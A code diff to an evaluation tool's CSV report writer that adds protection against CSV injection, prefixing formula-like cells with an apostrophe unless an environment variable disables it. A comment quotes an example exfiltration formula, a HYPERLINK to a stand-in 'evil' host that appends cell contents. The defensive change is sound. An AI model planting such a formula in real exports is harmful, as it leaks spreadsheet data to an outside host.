@@ -89,10 +89,27 @@ def failed_assertion_types(r: EvalResult) -> list[str]:
 # ---------------------------------------------------------------- csv
 
 
+# A cell a spreadsheet would run as a formula (an output `=HYPERLINK("http://evil/?"&A1)`, a var
+# `@SUM(…)`): written with a leading ' so that it shows as text (OWASP's CSV injection advice).
+# Numbers (-0.5) stay numbers. FACTCLI_CSV_RAW=1 writes every cell as it is.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(value):
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        try:
+            float(value)
+        except ValueError:
+            return "'" + value
+    return value
+
+
 def write_csv(run, path: Path) -> None:
     """promptfoo's layout: [Description], vars, then per column: "[provider] label", Status, Score,
-    Named Scores, one "Metric: x" column per metric, Grader Reason, Comment."""
+    Named Scores, one "Metric: x" column per metric, Grader Reason, Comment. Cells that would be
+    formulas are neutralised (_csv_cell) unless FACTCLI_CSV_RAW=1."""
     import csv
+    import os
 
     from factcli.report.ratings import cell_text, ratings_of
 
@@ -105,9 +122,11 @@ def write_csv(run, path: Path) -> None:
     for col in run.columns:
         header += [column_label(col), "Status", "Score", "Named Scores", *[f"Metric: {m}" for m in metrics],
                    "Grader Reason", "Comment"] + (["Ratings"] if rated else [])
+    raw = os.environ.get("FACTCLI_CSV_RAW", "") not in ("", "0", "false")
     with open(path, "w", encoding="utf-8", newline="") as fh:
         writer = csv.writer(fh)
-        writer.writerow(header)
+        write = writer.writerow if raw else (lambda row: writer.writerow([_csv_cell(c) for c in row]))
+        write(header)
         for _, cells in by_test(run):
             first = next(iter(cells.values()))
             line = ([first.step.test.description or ""] if has_desc else [])
@@ -126,7 +145,7 @@ def write_csv(run, path: Path) -> None:
                          (r.grading.metadata.get("comment", "") if r.grading is not None else "")]
                 if rated:
                     line.append(cell_text(ratings_of(run, r)))
-            writer.writerow(line)
+            write(line)
 
 
 # ---------------------------------------------------------------- xml
